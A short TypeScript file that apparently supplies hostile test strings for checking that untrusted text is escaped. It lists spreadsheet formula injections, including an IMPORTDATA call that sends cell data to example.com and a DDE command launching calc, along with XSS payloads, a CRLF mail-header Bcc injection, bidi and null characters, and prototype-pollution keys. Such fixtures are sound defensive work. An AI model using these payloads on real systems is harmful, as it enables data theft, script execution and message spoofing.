/** Texts from outside that would be more than text, if anything took them for it. */

/** What a sheet would compute. */
export const FORMULAS = [
  '=IMPORTDATA("https://example.com/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
  '=cmd|"/c calc"!A1',
];

/** What a page or a mail would make an element of; `pwned` would be set. */
export const MARKUP = [
  '<img src=x onerror="window.pwned=1">',
  '</script><script>window.pwned=1</script>',
  '"><svg onload="window.pwned=1">',
  'javascript:window.pwned=1',
  '</textarea><iframe srcdoc="<script>parent.pwned=1</script>">',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay text
  '${window.pwned=1}{{constructor.constructor("window.pwned=1")()}}',
];

/** What a line, a header of a mail or a reader would trip over. */
export const SIGNS = [
  'Lamps\r\nBcc: everyone@example.com',
  '\u202eevil\u202c',
  'a\0b',
  'lone \ud800 half',
  '{title} $& $1',
];

/** Names that every object has. */
export const KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

export const TEXTS = [...FORMULAS, ...MARKUP, ...SIGNS, ...KEYS];
